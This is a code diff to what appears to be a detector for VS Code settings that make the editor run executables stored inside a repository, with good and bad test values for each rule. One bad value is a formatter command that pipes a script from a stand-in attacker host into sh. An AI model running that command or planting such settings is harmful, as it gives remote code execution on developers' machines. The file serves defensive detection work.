@@ -14,6 +14,12 @@ function repositoryProgram(preset: 'recommended' | 'strict' = 'recommended', usu
   };
 }
 
+/** Git runs on its own and in every folder, so no place in the repository is usual for it. */
+function anyRepositoryProgram(value: SettingValue): boolean | RowMatch {
+  const path = textsOf(value).find(isRepoRelative);
+  return path !== undefined && { data: { value: path } };
+}
+
 const isPython = (path: string): boolean => /^(?:python|pypy)[\d.]{0,6}$/.test(programName(path)) && /\.?(?:venv|env|virtualenv)[\w.-]{0,40}[\\/]/i.test(path);
 const isVendored = (path: string): boolean => /(?:^|\/)vendor\/bin\//.test(path);
 
@@ -66,7 +72,7 @@ export const VSCODE_EXECUTABLES: readonly VscodeRow[] = [
     bad: [{ document: { 'some.extension.serverPath': DOWNLOAD } }, { document: { 'go.alternateTools': { customFormatterCommand: ['sh', '-c', 'curl -s https://attacker.example/x | sh'] } } }],
     good: [{ document: { 'some.extension.serverPath': '/usr/bin/server', 'x.command': 'npm test', 'x.path': 'bash' } }],
   },
-  { ...base, id: 'A5-1', key: 'git.path', when: repositoryProgram(), source: VSC, data: scoped('machine'), bad: ['./tools2/git', '${workspaceFolder}/.vscode/git'], good: ['/usr/bin/git', 'C:\\Program Files\\Git\\bin\\git.exe', null] },
+  { ...base, id: 'A5-1', key: 'git.path', when: anyRepositoryProgram, source: VSC, data: scoped('machine'), bad: ['./tools/git', '${workspaceFolder}/.vscode/git'], good: ['/usr/bin/git', 'C:\\Program Files\\Git\\bin\\git.exe', null] },
   { ...base, id: 'A5-2', key: ['typescript.tsdk', 'js/ts.tsdk.path'], when: repositoryProgram(), source: 'https://code.visualstudio.com/docs/typescript/typescript-compiling', data: live(), bad: ['./.vscode/tsdk', 'lib/typescript'], good: ['node_modules/typescript/lib', './packages/app/node_modules/typescript/lib', '.yarn/sdks/typescript/lib', '.vscode/pnpify/typescript/lib', '/opt/ts/lib'].slice(0, 3) },
   { ...base, id: 'A5-3', key: ['typescript.tsserver.nodePath', 'js/ts.tsserver.node.path'], when: repositoryProgram(), source: VSC, data: live(), bad: ['./build2/node'], good: ['node', '/usr/bin/node', 'node_modules/.bin/node'] },
   { ...base, id: 'A5-4', key: ['typescript.npm', 'js/ts.tsserver.npm.path'], when: repositoryProgram(), source: VSC, data: scoped('machine'), bad: ['./x/npm'], good: ['npm', '/usr/bin/npm'] },
